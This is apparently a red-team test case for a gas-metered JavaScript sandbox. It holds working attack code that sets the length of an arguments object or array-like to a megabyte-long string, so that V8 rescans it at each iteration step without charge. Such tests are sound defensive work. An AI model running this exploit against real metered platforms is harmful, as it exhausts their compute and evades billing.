// Threat: V8's array iterator reads `length` of the object it walks as a
// number at every step (ToLength); an array-like, or an `arguments` object,
// whose length is a long string makes V8 scan it at each step, uncharged
// (red team round 33: 400 steps over 2 MiB of two-byte spaces, 2.2 s for
// ~4,800 gas).
function walkArguments(s) {
  arguments.length = s;
  let n = 0;
  for (const x of arguments) n += x === s ? 1 : 0;
  return n;
}

class ArrayIteratorOverLongTextLength {
  init() {}

  attack() {
    const s = '\u3000'.repeat(2 ** 20 - 1) + '1';
    let seen = 0;
    for (let i = 0; i < 20; i++) seen += walkArguments(s);
    const it = Array.prototype.values.call({ length: s, 0: 'a' });
    for (let i = 0; i < 100000; i++) {
      it.next();
      seen++;
    }
    return seen;
  }
}

module.exports = ArrayIteratorOverLongTextLength;
